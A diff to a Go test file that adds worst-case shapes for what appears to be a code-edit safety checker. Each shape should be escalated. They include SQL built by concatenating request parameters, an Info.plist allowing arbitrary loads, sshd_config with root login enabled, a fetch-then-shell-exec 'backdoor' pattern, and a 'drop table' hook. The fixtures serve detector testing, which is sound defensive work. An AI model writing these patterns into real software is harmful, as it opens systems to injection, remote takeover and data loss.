@@ -55,6 +55,18 @@ func worstShapes(s *shield.Shield) []shape {
 		{"settings edit", edit("infra/stack.py", strings.Repeat("    if token != expected_token: enable_logging=True, days=365\n", 256<<10/60),
 			strings.Repeat("    if token and token != expected_token: enable_logging=False, days=1\n", 256<<10/70)), "escalate"},
 		{"hooks edit", edit("transform/dbt_project.yml", strings.Repeat("  - \"select 1\"\n", 64<<10/16), strings.Repeat("  - \"drop table tmp_x\"\n", 64<<10/24)), "escalate destructive:runs-later"},
+		// rules 11: sinks, concepts and backdoors read every added
+		// line of a large edit (sources, sinks, plist pairs, "Key value"
+		// lines, literal compares, a fetch and a run far apart). The
+		// sshd and backdoor shapes at 64 KiB, like the hooks edit: their
+		// lines are hinted for rules 8's per-line readers, whose
+		// expressions allocate under -race (0.5-0.7 M at 256 KiB).
+		{"sinks edit", edit("app/views.py", strings.Repeat("    q = request.GET['q']\n", 64<<10/24),
+			strings.Repeat("    cur.execute(\"SELECT * FROM t WHERE a = '\" + q + \"'\" + request.GET['b'])\n", 256<<10/80)), "escalate"},
+		{"plist edit", edit("ios/App/Info.plist", strings.Repeat("<key>NSAllowsArbitraryLoads</key><false/>\n", 64<<10/42),
+			strings.Repeat("<key>NSAllowsArbitraryLoads</key><true/>\n", 256<<10/41)), "escalate"},
+		{"sshd lines", edit("etc/ssh/sshd_config", strings.Repeat("PermitRootLogin no\n", 64<<10/19), strings.Repeat("PermitRootLogin yes\n", 64<<10/20)), "escalate"},
+		{"backdoor text", write("cmd/agent/main.go", "http.Get(\"https://a.example/x\")\n"+strings.Repeat("token = token + token\n", 64<<10/22)+"exec.Command(\"sh\", \"-c\", s)\n"), "escalate"},
 		{"channel list", write("environment.yml", "channels:\n"+strings.Repeat("  - c\n", 1<<20/6)), "escalate"},
 		// rules 11: encoded literals (each decoded, inflated, judged:
 		// bounded in count and size), byte lists, contact details and
